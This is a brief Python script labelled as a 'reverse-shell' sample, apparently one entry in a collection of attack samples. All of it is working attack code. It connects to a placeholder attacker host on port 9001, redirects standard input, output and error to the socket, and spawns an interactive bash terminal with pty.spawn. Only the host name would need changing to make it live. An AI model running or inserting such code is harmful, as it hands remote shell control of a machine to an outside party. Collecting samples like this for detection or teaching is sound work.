# family: reverse-shell
# reverse shell with pty.spawn for a full terminal
import os
import pty
import socket

HOST, PORT = "10.0.0.1.example.invalid", 9001
s = socket.socket()
s.connect((HOST, PORT))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")
